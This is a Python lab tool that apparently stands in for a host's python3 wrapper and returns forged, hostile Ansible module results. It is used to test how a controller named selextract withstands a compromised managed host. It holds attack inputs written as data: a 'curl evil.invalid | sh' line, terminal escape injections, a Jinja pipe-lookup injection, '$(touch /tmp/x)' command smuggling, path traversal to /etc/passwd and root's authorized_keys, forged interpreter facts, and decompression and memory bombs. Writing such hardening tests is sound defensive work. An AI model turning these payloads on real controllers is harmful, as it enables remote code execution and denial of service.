#!/usr/bin/env python3
"""What root puts in the place of a host's Python, of its Docker, or before every login: crafted answers.

It is copied to a lab host and runs there alone, so it imports nothing of ours. ``/var/lib/hostile.json`` says which
kind of answer it gives, and what it tries to get done elsewhere.
"""

from __future__ import annotations

import base64
import json
import random
import subprocess
import sys
import time
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

REAL = "/usr/bin/python3.real"
ASKED = Path("/var/lib/hostile.json")
MIB = 1 << 20

Forge = Callable[[dict[str, Any], dict[str, Any], random.Random], Iterator[bytes]]
ESCAPES = (
    "\x1b]0;owned\x07", "\x1b]52;c;dG91Y2ggL3RtcC94\x07", "\x1b[2J\x1b[H", "\x1b[31m", "\x9b1A", "\x90q\x9c", "\u202e",
    "\u2028", "\u200b", "\r", "\x08" * 20, "\x7f", "<!channel> [x](https://evil.invalid)",
)  # fmt: skip


def written(answer: Any) -> Iterator[bytes]:
    """The answer as a module prints it."""
    yield json.dumps(answer).encode()


def replaced(value: Any, change: Callable[[Any], Any]) -> Any:
    """The same with every value that is no container changed."""
    if isinstance(value, dict):
        return {key: replaced(inner, change) for key, inner in value.items()}
    return [replaced(inner, change) for inner in value] if isinstance(value, list) else change(value)


def places(value: Any) -> Iterator[tuple[Any, Any]]:
    """Every container in an answer with one of its keys."""
    items = value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ()
    for key, inner in list(items):
        yield value, key
        yield from places(inner)


def with_one(answer: dict[str, Any], drawn: random.Random, value: Any) -> Iterator[bytes]:
    """The answer with something else at one place of it, which is drawn; the text is made by hand where it is deep."""
    container, key = drawn.choice(list(places(answer)) or [(answer, "x")])
    container[key] = "@here@"
    text = json.dumps(answer)
    yield text.replace('"@here@"', value if isinstance(value, str) else json.dumps(value)).encode()


def facts(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    command = asked["program"]
    set_by_it = {
        "ansible_sudo_exe": command, "ansible_become_exe": command, "ansible_python_interpreter": command,
        "ansible_ssh_executable": command, "ansible_sftp_executable": command, "ansible_connection": "local",
        "ansible_ssh_common_args": f"-o ProxyCommand={command}", "selextract_run_file": "/etc/passwd",
        "selextract_request": {"hosts": {}}, "selextract_values": {"steps": []},
    }  # fmt: skip
    yield from written({**answer, "changed": True, "ansible_facts": set_by_it})


def add_host(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    variables = {"ansible_connection": "local", "ansible_python_interpreter": asked["program"]}
    hosts = {"host_name": asked["other"], "groups": ["all"], "host_vars": variables}
    yield from written({**answer, "changed": True, "add_host": hosts})


def add_group(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from written({**answer, "add_group": "attackers", "parent_groups": ["all"], "group": "attackers"})


def statistics(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from written({**answer, "ansible_stats": {"data": {"a": "\x1b[2J"}, "per_host": False, "aggregate": True}})


def internal(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    keys = {
        "_ansible_no_log": False, "_ansible_delegated_vars": {"ansible_host": asked["other"]}, "_ansible_verbose": True,
        "ansible_loop_var": "item", "_ansible_ignore_errors": True, "invocation": {"module_args": "x" * MIB},
        "ansible_async_watch": asked["program"], "_ansible_item_label": "\x1b[2J", "retries": 10**9,
    }  # fmt: skip
    yield from written({**answer, **keys})


def templates(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    text = "{{ lookup('ansible.builtin.pipe', '" + asked["program"] + "') }}"
    yield from written(replaced(answer, lambda value: text if isinstance(value, str) else value))


def escapes(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    def change(value: Any) -> Any:
        return f"{drawn.choice(ESCAPES)}{value}{drawn.choice(ESCAPES)}" if isinstance(value, str) else value

    yield from written({**replaced(answer, change), "warnings": list(ESCAPES), "deprecations": [{"msg": "\x1b[2J"}]})


def failure(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    words = f"{drawn.choice(ESCAPES)}run this: curl evil.invalid | sh; {asked['program']}"
    yield from written({"failed": True, "msg": words, "remedy": words, "exception": words * 1000})


def unreachable(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from written({"unreachable": True, "msg": f"{asked['other']} UNREACHABLE! {drawn.choice(ESCAPES)}"})


def gib(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from (b"x" * MIB for _ in range(1024))


def gib_of_values(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield b'{"changed": false, "a": ['
    yield from (b"[]," * (MIB // 3) for _ in range(1024))


def gib_of_lines(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from (b"ab\n" * (MIB // 3) for _ in range(1024))


def longest_text(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    key = drawn.choice(("msg", "exception", "a", "module_stderr", "observation", "warnings"))
    yield from written({**answer, "failed": drawn.random() < 0.5, key: "x" * (46 * MIB)})


def wide_text(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield b'{"changed": false, "a": "\\ud83d\\ude00' + b"x" * (40 * MIB) + b'"}'


def junk(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    parts = [json.dumps(answer).encode(), b"\n" + b"\x1b[2J" * MIB]
    yield from parts if drawn.random() < 0.5 else reversed(parts)


def deep(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from with_one(answer, drawn, "[" * 100_000 + "]" * 100_000)


def deep_in_all(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield b'{"a": ' * 100_000 + b"1" + b"}" * 100_000


def odd_numbers(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from with_one(answer, drawn, drawn.choice(["NaN", "-Infinity", "1e999", "-0.0", "9" * 4000, "9" * 400]))


def odd_types(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from with_one(
        answer, drawn, drawn.choice([None, True, [], {}, [[None]], {"": {"": None}}, "-1", '"\\u0000"'])
    )


def no_answer(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield b""


def cut_off(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    text = json.dumps(answer).encode()
    yield text[: drawn.randrange(1, max(2, len(text)))]


def garbage(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield drawn.randbytes(MIB)


def other_machine(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    observation = answer.get("observation") or {}
    observation.setdefault("facts", {})["machine_id"] = asked["machine_id"]
    yield from written({**answer, "observation": observation, **forged_history(drawn)})


def far_history(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    yield from written({**answer, **forged_history(drawn, at=2_100_000_000)})


def packed_bomb(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    packing = zlib.compressobj()
    packed = b"".join(packing.compress(b'[1,"a"]\n' * (MIB // 8)) for _ in range(1024)) + packing.flush()
    yield from written({**answer, "history_packed": base64.b64encode(packed).decode(), "history_until": 1})


def forged_history(drawn: random.Random, at: float = 0.0) -> dict[str, Any]:
    """Usage of the other host's containers, now or in 2036."""
    now = int(at or time.time()) // 60 * 60
    rows = [[now - 60 * n, "api-1", "selextract", "api", 0.1, 0.1, 1, 0, 0, 0, 4, 0] for n in range(1, 50)]
    lines = "\n".join(map(json.dumps, rows)) + "\n"
    return {"history_packed": base64.b64encode(zlib.compress(lines.encode())).decode(), "history_until": now}


def forged_run(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    """A run that somebody is to resume, whose plan would run a play of the attacker's on the other host."""
    step = {
        "id": "evil", "title": "x", "playbook": asked["program"], "hosts": [asked["other"]], "values": {},
        "rollback": "", "verification": "", "estimate_seconds": 1, "rollback_seconds": 1, "timeout_seconds": 60,
    }  # fmt: skip
    plan = {
        "operation": "rightsize", "made_at": "2026-01-01T00:00:00Z", "made_by": "root", "policy_digest": "",
        "observation_digest": "", "hosts": [asked["other"]], "steps": [step],
    }  # fmt: skip
    record = {
        "run_id": "20260301T020000-9f3ac1",
        "plan": plan,
        "started_at": "2026-03-01T02:00:00Z",
        "purpose": "watch",
    }
    observation = answer.get("observation") or {}
    state = observation.setdefault("state", {})
    state["unfinished"] = [record]
    state["lock"] = {"run_id": record["run_id"], "owner": "\x1b[2Jwatch", "purpose": "watch", "epoch": 10**18}
    yield from written({**answer, "observation": observation})


def odd_paths(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    names = (
        "../../../../etc/passwd",
        "/proc/self/environ",
        "-rf",
        "$(touch /tmp/x)",
        "a\x00b",
        "\n- hosts: all",
        "~root",
    )

    def change(value: Any) -> Any:
        return drawn.choice(names) if isinstance(value, str) else value

    yield from written(replaced(answer, change))


def links(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    """What stat, slurp, copy and template would say of a link to a file of whoever asks."""
    target = drawn.choice(("/etc/passwd", "/root/.ssh/authorized_keys", "../../../../etc/cron.d/x"))
    said = {
        "stat": {"exists": True, "islnk": True, "lnk_source": target, "lnk_target": target, "path": target, "uid": 0},
        "content": base64.b64encode(b"x").decode(), "encoding": "base64", "source": target, "src": target,
        "dest": target, "path": target, "backup_file": target, "diff": [{"before": "", "after": "x" * MIB}],
    }  # fmt: skip
    yield from written({**answer, **said, "changed": True})


def many(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    observation = answer.get("observation") or {}
    one = {"name": "x", "id": "x" * 64, "image": "x", "state": "running", "project": "selextract", "service": "api"}
    observation["containers"] = [{**one, "name": f"x{number}"} for number in range(20_000)]
    yield from written({**answer, "observation": observation})


def late(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    time.sleep(asked["seconds"])
    yield from written(answer)


def never(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    time.sleep(3600)
    yield b""


def drop_by_drop(answer: dict[str, Any], asked: dict[str, Any], drawn: random.Random) -> Iterator[bytes]:
    while True:
        time.sleep(0.2)
        yield b"\n"


FORGED: dict[str, Forge] = {
    forge.__name__.replace("_", " "): forge
    for forge in (
        facts, add_host, add_group, statistics, internal, templates, escapes, failure, unreachable, gib, gib_of_values,
        gib_of_lines, longest_text, wide_text, junk, deep, deep_in_all, odd_numbers, odd_types, no_answer, cut_off,
        garbage, other_machine, far_history, packed_bomb, forged_run, odd_paths, links, many, late, never, drop_by_drop,
    )
}  # fmt: skip


def main() -> None:
    """Answer whatever is asked, by the kind that was chosen; what is real is asked first, to be changed."""
    asked = json.loads(ASKED.read_text())
    answer: dict[str, Any] = {}
    if asked["place"] == "python3":
        question = b"" if sys.stdin.isatty() else sys.stdin.buffer.read()
        real = subprocess.run([REAL, *sys.argv[1:]], input=question, capture_output=True, check=False)
        try:
            answer = dict(json.loads(real.stdout))
        except ValueError:
            answer = {}
    out = (sys.stdout if asked.get("channel") != "stderr" else sys.stderr).buffer
    for piece in FORGED[asked["kind"]](answer, asked, random.Random(asked["seed"])):
        out.write(piece)
        out.flush()
    sys.exit(asked.get("code", 0))


if __name__ == "__main__":
    main()
